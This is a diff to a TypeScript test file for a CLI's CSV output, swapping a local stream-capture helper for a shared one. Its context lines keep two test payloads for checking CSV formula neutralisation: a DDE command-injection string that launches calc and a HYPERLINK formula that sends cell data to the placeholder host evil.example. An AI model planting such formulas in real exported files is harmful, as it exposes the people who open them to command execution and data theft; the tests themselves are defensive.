@@ -9,29 +9,18 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { neutraliseFormula } from '../src/batch/csv.js';
 import { SUMMARY_COLUMNS, summaryLine, type SummaryRow } from '../src/batch/summary.js';
-import { type CliIo, runCli } from '../src/cli/main.js';
+import { runCli } from '../src/cli/main.js';
 import { CSV_COLUMNS } from '../src/cli/csv.js';
 import { parseCsv } from './batch/_csv.js';
+import { sink } from './_support/cli.js';
 import { readCorpus } from './_support/variants.js';
 
 const CMD = `+cmd|' /C calc'!A0`;
 const LINK = `=HYPERLINK("http://evil.example/?"&A1,"คลิก")`;
 
-function plain() {
-  const chunks: string[] = [];
-  const stream = {
-    isTTY: false,
-    write(chunk: unknown, ...rest: unknown[]) {
-      chunks.push(typeof chunk === 'string' ? chunk : Buffer.from(chunk as Uint8Array).toString('utf8'));
-      (rest.find((r) => typeof r === 'function') as (() => void) | undefined)?.();
-      return true;
-    },
-  };
-  return { stream: stream as unknown as CliIo['stdout'], text: () => chunks.join('') };
-}
 async function run(argv: string[]) {
-  const out = plain();
-  const err = plain();
+  const out = sink();
+  const err = sink();
   const code = await runCli(argv, { stdout: out.stream, stderr: err.stream });
   return { code, stdout: out.text(), stderr: err.text() };
 }
